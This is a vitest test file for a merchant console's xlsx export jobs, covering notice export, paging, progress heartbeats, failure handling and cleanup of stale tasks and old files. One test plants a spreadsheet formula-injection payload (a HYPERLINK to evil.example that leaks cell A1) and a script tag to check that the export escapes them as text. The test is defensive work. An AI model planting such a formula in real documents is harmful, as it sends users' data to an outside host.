import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { z } from 'zod';
import { Code, ENDPOINTS } from '@console/contract';
import { tasks } from '../../db/tables';
import { defineExporter } from '../../jobs/exporters';
import { QUEUE } from '../../jobs/queue';
import { cleanupExpiredFiles, sweepStaleTasks } from '../../jobs/task-maintenance';
import { formatDateTime } from '../../lib/time';
import { noticeExporter } from '../notices/exporter';
import { createTestApp, type TestApp } from '../../test/test-app';
import { makeMerchant, makeTask, signIn, waitForTask } from '../../test/factories';
import { makeNotice } from '../notices/test-support';
import { createExportTask } from '../../jobs/export-tasks';
import { MAX_PACKING_PER_MERCHANT } from '../../jobs/task-rows';

let t: TestApp;
/** What the "numbers" exporter saw of its own task between pages. */
const seen: { progress: number; rows: number; heartbeat: Date | null }[] = [];

beforeAll(async () => {
  t = await createTestApp();
  // Test exporters through the real registry: several pages, and one that fails half-way.
  t.ctx.exporters.register(
    defineExporter({
      kind: 'numbers',
      query: z.object({ n: z.number().int() }),
      sheet: 'export.notices.sheet',
      pageSize: 10,
      columns: [
        { header: 'export.notices.id', width: 8, value: (row: { i: number }) => row.i },
        { header: 'export.notices.title', width: 20, value: (row: { i: number }) => `-${row.i}` },
      ],
      count: async (_ctx, _m, q) => q.n,
      fetchPage: async (ctx, merchantId, q, after: { i: number } | null, limit) => {
        const [row] = await ctx.db.select().from(tasks).where(eq(tasks.merchantId, merchantId));
        seen.push({ progress: row!.progress, rows: row!.rowCount, heartbeat: row!.heartbeatAt });
        const start = after ? after.i + 1 : 0;
        return Array.from({ length: Math.max(0, Math.min(limit, q.n - start)) }, (_, k) => ({
          i: start + k,
        }));
      },
    }),
  );
  t.ctx.exporters.register(
    defineExporter({
      kind: 'broken',
      query: z.object({}),
      sheet: 'export.notices.sheet',
      pageSize: 2,
      columns: [{ header: 'export.notices.id', width: 8, value: (row: { i: number }) => row.i }],
      count: async () => 10,
      fetchPage: async (_ctx, _m, _q, after: { i: number } | null) => {
        if (after) throw new Error('upstream went away');
        return [{ i: 1 }, { i: 2 }];
      },
    }),
  );
});
afterAll(() => t.close());

async function download(url: string) {
  const res = await t.inject({ method: 'GET', url });
  expect(res.statusCode).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
  return workbook;
}

const rowsOf = (sheet: ExcelJS.Worksheet) => {
  const out: unknown[][] = [];
  sheet.eachRow((row) => out.push((row.values as unknown[]).slice(1)));
  return out;
};

const exportedFiles = async (merchantId: number) =>
  fs.readdir(path.join(t.dataDir, 'files', 'exports', String(merchantId))).catch(() => [] as string[]);

describe('notice export → xlsx', () => {
  it('writes the merchant’s notices with headers in the request language, HTML as text, formulas as text', async () => {
    const m = await makeMerchant(t.ctx);
    const token = await signIn(t.ctx, m.id);
    const created = new Date('2026-03-04T05:06:07Z');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
    await makeNotice(t.ctx, m.id, {
      title: 'Plain',
      content: 'hello',
      createdAt: created,
      readAt: new Date(),
    });
    await makeNotice(t.ctx, m.id, {
      title: evil,
      type: 'html',
      content: '<p>Big <b>sale</b> &amp; more<script>alert(1)</script></p><p>Line&nbsp;2</p>',
      createdAt: created,
    });
    await makeNotice(t.ctx, m.id, { title: '@SUM(1)', content: '+1\u0007', createdAt: created });
    const other = await makeMerchant(t.ctx);
    await makeNotice(t.ctx, other.id, { title: 'not mine' });

    const res = await t.call(ENDPOINTS.noticeExport, { task_name: 'Notices' }, { token, lang: 'en-US' });
    expect(res.code).toBe(Code.ok);
    const task = await waitForTask(t.ctx, res.data.task_id);
    expect(task).toMatchObject({ status: 1, progress: 100, rowCount: 3, errorKey: null });
    expect(task.finishedAt).toBeInstanceOf(Date);

    const list = await t.call(ENDPOINTS.taskList, {}, { token });
    const listed = list.data.list.find((x) => x.id === task.id)!;
    expect(listed).toMatchObject({ status: 1, rows: 3, progress: 100, error: '' });
    const workbook = await download(listed.url);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Notices');
    const rows = rowsOf(sheet);
    expect(rows[0]).toEqual(['ID', 'Title', 'Type', 'Published', 'Read', 'Content']);
    expect(rows).toHaveLength(4);
    const byTitle = (title: string) => rows.find((r) => r[1] === title)!;
    const time = formatDateTime(created, 'Asia/Shanghai');
    expect(time).toBe('2026-03-04 13:06:07');
    expect(byTitle('Plain').slice(2)).toEqual(['Text', time, 'Read', 'hello']);
    expect(byTitle(`'${evil}`).slice(2)).toEqual(['Rich text', time, 'Unread', 'Big sale & more\nLine 2']);
    expect(byTitle(`'@SUM(1)`)[5]).toBe("'+1"); // the control character is gone too

    // Never a formula cell: the text is data, whatever it looks like.
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }),
    );
    const evilCell = sheet.getRow(rows.findIndex((r) => r[1] === `'${evil}`) + 1).getCell(2);
    expect(evilCell.type).toBe(ExcelJS.ValueType.String);
  });

  it('exports only unread notices when asked, in the request language (zh-CN by default)', async () => {
    const m = await makeMerchant(t.ctx);
    await makeNotice(t.ctx, m.id, { title: 'read', readAt: new Date() });
    await makeNotice(t.ctx, m.id, { title: 'unread' });
    const token = await signIn(t.ctx, m.id);
    const res = await t.call(ENDPOINTS.noticeExport, { task_name: '未读', unread_only: true }, { token });
    const task = await waitForTask(t.ctx, res.data.task_id);
    expect(task.rowCount).toBe(1);
    const list = await t.call(ENDPOINTS.taskList, {}, { token });
    const rows = rowsOf((await download(list.data.list[0]!.url)).worksheets[0]!);
    expect(rows[0]).toEqual(['编号', '标题', '类型', '发布时间', '是否已读', '内容']);
    expect(rows.slice(1).map((r) => r[1])).toEqual(['unread']);
    expect(rows[1]![4]).toBe('未读');
  });
});

describe('notice export paging', () => {
  it('pages in the list’s order without losing rows: equal times, microseconds, several pages', async () => {
    t.ctx.exporters.register({ ...noticeExporter, kind: 'notices-in-twos', pageSize: 2 });
    const m = await makeMerchant(t.ctx);
    const made = [];
    for (let i = 0; i < 7; i++) made.push(await makeNotice(t.ctx, m.id, { title: `N${i}` }));
    // Three share one instant; the others differ by microseconds only (a JS Date cannot tell them apart).
    const at = ['.123456', '.123456', '.123456', '.123457', '.123455', '.999999', '.000001'];
    for (const [i, n] of made.entries()) {
      await t.ctx.db.execute(
        sql`update notices set created_at = ${`2026-05-01 10:00:00${at[i]}+00`}::timestamptz where id = ${n.id}`,
      );
    }
    const token = await signIn(t.ctx, m.id);
    const listed = await t.call(ENDPOINTS.noticeList, { page_size: 100 }, { token });
    const { task_id } = await createExportTask(
      t.ctx,
      m.id,
      'notices-in-twos',
      { unread_only: false },
      'x',
      'zh-CN',
    );
    expect(await waitForTask(t.ctx, task_id)).toMatchObject({ status: 1, rowCount: 7 });
    const list = await t.call(ENDPOINTS.taskList, {}, { token });
    const rows = rowsOf((await download(list.data.list[0]!.url)).worksheets[0]!);
    expect(rows.slice(1).map((r) => r[1])).toEqual(listed.data.list.map((n) => n.title));
    expect(listed.data.list.map((n) => n.title)).toEqual(['N5', 'N3', 'N2', 'N1', 'N0', 'N4', 'N6']);
  });
});

describe('the generic export machinery', () => {
  it('pages with keysets, updating progress and heartbeat after every page', async () => {
    const m = await makeMerchant(t.ctx);
    seen.length = 0;
    const { task_id } = await createExportTask(t.ctx, m.id, 'numbers', { n: 35 }, 'numbers', 'en-US');
    const task = await waitForTask(t.ctx, task_id);
    expect(task).toMatchObject({ status: 1, progress: 100, rowCount: 35 });
    // Four pages (10, 10, 10, 5): before each, the row shows the pages written so far.
    expect(seen.map((s) => [s.progress, s.rows])).toEqual([
      [0, 0],
      [28, 10],
      [57, 20],
      [85, 30],
    ]);
    expect(seen.every((s) => s.heartbeat instanceof Date)).toBe(true);
    expect(task.heartbeatAt!.getTime()).toBeGreaterThanOrEqual(seen[0]!.heartbeat!.getTime());

    const token = await signIn(t.ctx, m.id);
    const list = await t.call(ENDPOINTS.taskList, {}, { token });
    const rows = rowsOf((await download(list.data.list[0]!.url)).worksheets[0]!);
    expect(rows).toHaveLength(36);
    expect(rows[1]).toEqual([0, "'-0"]);
    expect(rows[35]).toEqual([34, "'-34"]);
  });

  it('marks a task whose exporter throws as failed, with a reason, and leaves no file', async () => {
    const m = await makeMerchant(t.ctx);
    const { task_id } = await createExportTask(t.ctx, m.id, 'broken', {}, 'broken', 'zh-CN');
    const task = await waitForTask(t.ctx, task_id);
    expect(task).toMatchObject({ status: 4, errorKey: 'task.err_failed', storageKey: null });
    expect(await exportedFiles(m.id)).toEqual([]);
    const list = await t.call(ENDPOINTS.taskList, {}, { token: await signIn(t.ctx, m.id), lang: 'en-US' });
    expect(list.data.list[0]).toMatchObject({
      status: 4,
      url: '',
      error: 'The export failed. Please export again later',
    });
  });

  it('refuses more exports while too many are packing', async () => {
    const m = await makeMerchant(t.ctx);
    for (let i = 0; i < MAX_PACKING_PER_MERCHANT; i++) await makeTask(t.ctx, m.id);
    const res = await t.call(
      ENDPOINTS.noticeExport,
      { task_name: 'one more' },
      { token: await signIn(t.ctx, m.id) },
    );
    expect(res).toMatchObject({
      code: Code.tooManyRequests,
      msg: `已有 ${MAX_PACKING_PER_MERCHANT} 个任务正在打包，请稍后再导出`,
    });
  });

  it('checks the query with the exporter’s schema', async () => {
    const m = await makeMerchant(t.ctx);
    await expect(createExportTask(t.ctx, m.id, 'numbers', { n: 'many' }, 'x', 'zh-CN')).rejects.toMatchObject(
      {
        code: Code.validation,
      },
    );
    await expect(createExportTask(t.ctx, m.id, 'nope', {}, 'x', 'zh-CN')).rejects.toThrow(/no exporter/);
    expect(await t.ctx.db.select().from(tasks).where(eq(tasks.merchantId, m.id))).toEqual([]);
  });
});

describe('tasks whose worker died, and old files', () => {
  const ago = (minutes: number) => new Date(Date.now() - minutes * 60_000);

  it('fails packing tasks without a heartbeat for 2 minutes (through the scheduled queue too)', async () => {
    const m = await makeMerchant(t.ctx);
    const dead = await makeTask(t.ctx, m.id, { startedAt: ago(10), heartbeatAt: ago(3) });
    const alive = await makeTask(t.ctx, m.id, { startedAt: ago(10), heartbeatAt: ago(1) });
    const queued = await makeTask(t.ctx, m.id, { createdAt: ago(10) });
    const lost = await makeTask(t.ctx, m.id, { createdAt: ago(120) });
    const done = await makeTask(t.ctx, m.id, { status: 1, startedAt: ago(10), heartbeatAt: ago(9) });

    const swept = await sweepStaleTasks(t.ctx, { info: () => undefined, warn: () => undefined });
    expect(swept.sort()).toEqual([dead.id, lost.id].sort());
    const status = async (id: number) => (await t.ctx.db.select().from(tasks).where(eq(tasks.id, id)))[0]!;
    expect(await status(dead.id)).toMatchObject({ status: 4, errorKey: 'task.err_stalled' });
    expect((await status(dead.id)).finishedAt).toBeInstanceOf(Date);
    expect((await status(alive.id)).status).toBe(3);
    expect((await status(queued.id)).status).toBe(3);
    expect((await status(done.id)).status).toBe(1);

    // The same sweep, run by the worker of the minutely schedule.
    const later = await makeTask(t.ctx, m.id, { startedAt: ago(10), heartbeatAt: ago(5) });
    await t.ctx.jobs.send(QUEUE.sweep, {});
    expect(await waitForTask(t.ctx, later.id)).toMatchObject({ status: 4, errorKey: 'task.err_stalled' });
  });

  it('removes the files of tasks older than 7 days and marks them expired', async () => {
    const m = await makeMerchant(t.ctx);
    await t.ctx.storage.put(`exports/${m.id}/old.xlsx`, Buffer.from('old'));
    await t.ctx.storage.put(`exports/${m.id}/new.xlsx`, Buffer.from('new'));
    const old = await makeTask(t.ctx, m.id, {
      status: 1,
      storageKey: `exports/${m.id}/old.xlsx`,
      createdAt: ago(8 * 24 * 60),
      finishedAt: ago(8 * 24 * 60),
    });
    const recent = await makeTask(t.ctx, m.id, {
      status: 1,
      storageKey: `exports/${m.id}/new.xlsx`,
      createdAt: ago(6 * 24 * 60),
    });
    await t.ctx.jobs.send(QUEUE.cleanup, {});
    expect(await waitForTask(t.ctx, old.id, (r) => r.status === 4)).toMatchObject({
      storageKey: null,
      errorKey: 'task.err_expired',
    });
    expect(await exportedFiles(m.id)).toEqual(['new.xlsx']);
    const [kept] = await t.ctx.db.select().from(tasks).where(eq(tasks.id, recent.id));
    expect(kept).toMatchObject({ status: 1, storageKey: `exports/${m.id}/new.xlsx` });
    expect(await cleanupExpiredFiles(t.ctx, { info: () => undefined, warn: () => undefined })).toBe(0);

    const list = await t.call(ENDPOINTS.taskList, {}, { token: await signIn(t.ctx, m.id) });
    expect(list.data.list.find((x) => x.id === old.id)).toMatchObject({
      status: 4,
      url: '',
      error: '文件已过期（保留 7 天），请重新导出',
    });
  });
});
